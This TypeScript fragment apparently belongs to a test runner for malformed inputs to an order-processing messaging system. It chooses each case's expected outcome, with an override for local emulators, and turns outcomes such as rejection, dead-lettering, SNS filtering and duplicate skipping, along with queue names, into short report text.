/** The expectation the runner checks: the emulator's when the target is a local emulator with a known gap. */
export function effectiveExpectation(c: BadInputCase, emulator: boolean): Expectation {
  return emulator && c.emulator ? c.emulator.expect : c.expect;
}

/** Short text of an expectation, for the report. */
export function describeExpectation(expect: Expectation): string {
  switch (expect.kind) {
    case 'rejected':
      return `rejected at the edge (${expect.error.source})`;
    case 'dead-lettered':
      return `dead-lettered in ${expect.queues.map(shortQueue).join(', ')} (${expect.reason.source})`;
    case 'filtered':
      return 'filtered by the subscriptions’ policies (dropped by SNS)';
    case 'ignored':
      return `ignored: ${expect.why}`;
    case 'processed':
      return `processed as data: order ${expect.status}${expect.reason ? ` (${expect.reason.source})` : ''}`;
    case 'outbox-refused':
      return `refused by the outbox publisher (${expect.reason.source})`;
    case 'not-published':
      return 'left in the store, never published';
    case 'order-rejected':
      return `refused as a stored OrderRejected (${expect.reason.source}); the order ${expect.status} as first placed`;
    case 'duplicate':
      return `skipped as a duplicate of the order placed before; one order, ${expect.status}`;
  }
}

/** `SagaDlqUrl` → `saga DLQ`. */
export function shortQueue(output: string): string {
  return `${output
    .replace(/(Dlq|Queue)Url$/, '')
    .replace(/^RuleTarget$/, 'rule-target')
    .toLowerCase()} DLQ`;
}
